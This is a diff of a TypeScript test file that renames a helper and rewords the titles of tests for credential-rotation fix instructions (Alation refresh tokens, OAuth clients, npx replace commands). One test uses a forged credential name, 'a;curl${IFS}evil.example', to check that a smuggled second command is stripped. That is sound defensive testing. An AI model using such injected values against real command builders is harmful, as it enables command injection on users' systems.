@@ -10,17 +10,20 @@ const context: FixContext = {
 };
 const lines = (fixes: readonly Fix[], changes: Partial<FixContext> = {}) =>
   fixLines(fixes, { ...context, ...changes });
-const replaced = (name: string, kind: 'refresh-token' | 'oauth-client' = 'refresh-token'): Fix => ({
+const replacementOf = (name: string, kind: 'refresh-token' | 'oauth-client' = 'refresh-token'): Fix => ({
   kind: 'replace',
   credentials: [{ name, kind }],
 });
 const anyCredential: Fix = { kind: 'replace', credentials: [] };
 const commandsOf = (all: readonly string[]) => all.filter((line) => line.startsWith('     npx '));
 
-test('two notifications about one credential have one fix, which says that it is for both', () => {
-  const [title, ...steps] = lines([replaced('a')]);
-  expect(lines([replaced('a'), replaced('a')])).toEqual(['What to do about both:', ...steps]);
-  expect(lines([replaced('a'), replaced('a'), anyCredential])).toEqual(['What to do about all 3:', ...steps]);
+test('the notifications about one credential have one fix, whose title says for how many notifications it is', () => {
+  const [title, ...steps] = lines([replacementOf('a')]);
+  expect(lines([replacementOf('a'), replacementOf('a')])).toEqual(['What to do about both:', ...steps]);
+  expect(lines([replacementOf('a'), replacementOf('a'), anyCredential])).toEqual([
+    'What to do about all 3:',
+    ...steps,
+  ]);
   expect([title, ...steps]).toEqual([
     'What to do:',
     '  1. Create a new refresh token at https://acme.alationcloud.com/account/auth',
@@ -32,7 +35,7 @@ test('two notifications about one credential have one fix, which says that it is
 });
 
 test('two credentials have one fix with two commands', () => {
-  expect(commandsOf(lines([replaced('a'), replaced('b')]))).toEqual([
+  expect(commandsOf(lines([replacementOf('a'), replacementOf('b')]))).toEqual([
     '     npx --no-install alation-tokens replace tableau --name a',
     '     npx --no-install alation-tokens replace tableau --name b',
   ]);
@@ -61,8 +64,8 @@ test('the fix for any credential names every kind, and no credential', () => {
   expect(lines([anyCredential], { credentialKinds: [] })[1]).toContain('a new refresh token at');
 });
 
-test('the fix of an OAuth client names its page only', () => {
-  const found = lines([replaced('loader', 'oauth-client')], {
+test('the fix of an OAuth client names only the page for OAuth clients', () => {
+  const found = lines([replacementOf('loader', 'oauth-client')], {
     credentialKinds: ['refresh-token', 'oauth-client'],
   });
   expect(found.join('\n')).toContain('https://acme.alationcloud.com/admin/auth/');
@@ -74,21 +77,21 @@ test('the address of the page contains a placeholder if the address of Alation i
 });
 
 test('the command names a prefix that is not the default', () => {
-  expect(commandsOf(lines([replaced('a')], { secretPrefix: 'acme' }))).toEqual([
+  expect(commandsOf(lines([replacementOf('a')], { secretPrefix: 'acme' }))).toEqual([
     '     npx --no-install alation-tokens replace tableau --name a --prefix acme',
   ]);
 });
 
 test('a forged credential name adds no words to the command', () => {
-  expect(commandsOf(lines([replaced('a;curl${IFS}evil.example')]))).toEqual([
+  expect(commandsOf(lines([replacementOf('a;curl${IFS}evil.example')]))).toEqual([
     '     npx --no-install alation-tokens replace tableau',
   ]);
 });
 
-test('a failure that a replacement ends has the fix of any credential, in the same block', () => {
+test('the fix of a failure that ends with new credentials is in the same block as a replacement', () => {
   const failure: Fix = { kind: 'code', code: 'CredentialRejected' };
   expect(lines([failure])).toEqual(lines([anyCredential]));
-  expect(fixBlock(failure)).toBe(fixBlock(replaced('a')));
+  expect(fixBlock(failure)).toBe(fixBlock(replacementOf('a')));
 });
 
 test.each([
